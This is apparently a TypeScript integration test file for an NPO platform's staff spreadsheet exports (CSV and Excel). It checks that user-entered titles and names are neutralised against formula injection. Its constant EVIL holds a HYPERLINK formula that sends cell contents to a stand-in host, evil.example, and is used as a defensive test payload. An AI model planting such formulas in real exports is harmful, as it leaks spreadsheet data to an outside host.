import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { DataSource } from 'typeorm';
import { DemoSeeder } from '../../src/seeds/demo-seeder';
import { SessionClient } from '../accounts/session-client';
import { type TestApp, startTestApp } from '../test-services';

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"詳しくはこちら")';

const csvRows = (body: ArrayBuffer): string[][] =>
  parse(
    Buffer.from(body)
      .toString('utf8')
      .replace(/^\uFEFF/, ''),
    { relax_column_count: true },
  );

async function sheetOf(body: ArrayBuffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(body) as unknown as ExcelJS.Buffer);
  return workbook.worksheets[0];
}

/** Every cell of a sheet whose text is this, with how exceljs reads it back. */
function cellsWith(sheet: ExcelJS.Worksheet, text: string): ExcelJS.Cell[] {
  const found: ExcelJS.Cell[] = [];
  sheet.eachRow((row) => row.eachCell((cell) => (cell.value === text || cell.formula ? found.push(cell) : undefined)));
  return found;
}

/**
 * The staff's spreadsheets (CSV and Excel) on the demo data: text typed by the public or taken
 * from open data never becomes a formula in the staff's Excel, and the demo marché exports.
 */
describe('spreadsheet exports', () => {
  let t: TestApp;
  let db: DataSource;
  let staff: SessionClient;
  let marcheId: string;

  beforeAll(async () => {
    t = await startTestApp();
    db = t.app.get(DataSource);
    await t.app.get(DemoSeeder).seed();
    staff = await new SessionClient(t.baseUrl).signIn('staff@demo.tsunagu.jp', 'demo-staff-2026');
    [{ id: marcheId }] = await db.query(`SELECT id FROM marche_event LIMIT 1`);
  }, 120_000);
  afterAll(async () => {
    await t?.close();
  });

  const get = (path: string) => fetch(`${t.baseUrl}${path}`, { headers: { cookie: staff.cookie } });

  it('the demo marché: staff download its applications as CSV and Excel and see the applicants', async () => {
    const applicants: string[] = (
      await db.query(`SELECT n.name FROM marche_application a JOIN npo n ON n.id = a.npo_id WHERE a.event_id = $1`, [
        marcheId,
      ])
    ).map((r: { name: string }) => r.name);
    expect(applicants.length).toBeGreaterThan(0);

    const csv = await get(`/api/marche/${marcheId}/applications.csv`);
    expect(csv.status).toBe(200);
    const rows = csvRows(await csv.arrayBuffer());
    expect(rows[0]).toContain('質問への答え');
    expect(
      rows
        .slice(1)
        .map((r) => r[3])
        .sort(),
    ).toEqual([...applicants].sort());

    const xlsx = await get(`/api/marche/${marcheId}/applications.xlsx`);
    expect(xlsx.status).toBe(200);
    const sheet = await sheetOf(await xlsx.arrayBuffer());
    expect(sheet.rowCount).toBe(applicants.length + 1);
    for (const name of applicants) expect(cellsWith(sheet, name)).toHaveLength(1);
  });

  it('a marché application whose title starts with =HYPERLINK( comes out neutralised (CSV) and as text (Excel)', async () => {
    await db.query(
      `UPDATE marche_application SET title = $2 WHERE id = (SELECT id FROM marche_application WHERE event_id = $1 LIMIT 1)`,
      [marcheId, EVIL],
    );
    const rows = csvRows(await (await get(`/api/marche/${marcheId}/applications.csv`)).arrayBuffer());
    const titles = rows.slice(1).map((r) => r[5]);
    expect(titles).toContain(`'${EVIL}`);
    expect(titles).not.toContain(EVIL);

    const sheet = await sheetOf(await (await get(`/api/marche/${marcheId}/applications.xlsx`)).arrayBuffer());
    const [cell, ...more] = cellsWith(sheet, EVIL);
    expect(more).toHaveLength(0);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
  });

  it('a need whose title starts with =HYPERLINK( comes out neutralised in /api/staff/needs.csv', async () => {
    await db.query(`UPDATE need SET title = $1 WHERE id = (SELECT id FROM need WHERE status = 'PUBLISHED' LIMIT 1)`, [
      EVIL,
    ]);
    const res = await get(`/api/staff/needs.csv`);
    expect(res.status).toBe(200);
    const rows = csvRows(await res.arrayBuffer());
    const titles = rows.slice(1).map((r) => r[2]);
    expect(titles).toContain(`'${EVIL}`);
    expect(titles).not.toContain(EVIL);
    // No cell of the file starts a formula.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('an NPO whose name starts with =HYPERLINK( comes out neutralised in the data book selection (CSV) and as text (Excel)', async () => {
    await db.query(
      `UPDATE npo SET name = $1 WHERE id = (SELECT id FROM npo WHERE status = 'ACTIVE' AND city = '北九州市' ORDER BY id LIMIT 1)`,
      [EVIL],
    );
    const rows = csvRows(await (await get(`/api/databook-selection.csv`)).arrayBuffer());
    const names = rows.slice(1).map((r) => r[0]);
    expect(names).toContain(`'${EVIL}`);
    expect(names).not.toContain(EVIL);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const sheet = await sheetOf(await (await get(`/api/databook-selection.xlsx`)).arrayBuffer());
    const [cell, ...more] = cellsWith(sheet, EVIL);
    expect(more).toHaveLength(0);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
  });

  it('the data book selection holds the demo companies and university groups only when staff chose 「企業・大学なども載せる」', async () => {
    const names = async (query: string) =>
      csvRows(await (await get(`/api/databook-selection.csv${query}`)).arrayBuffer())
        .slice(1)
        .map((r) => r[0]);
    const [{ name: company }] = await db.query(
      `SELECT name FROM npo WHERE kind = 'COMPANY' AND status = 'ACTIVE' ORDER BY name LIMIT 1`,
    );
    expect(await names('')).not.toContain(company);
    expect(await names('?includeOtherHelpers=true')).toContain(company);
  });
});
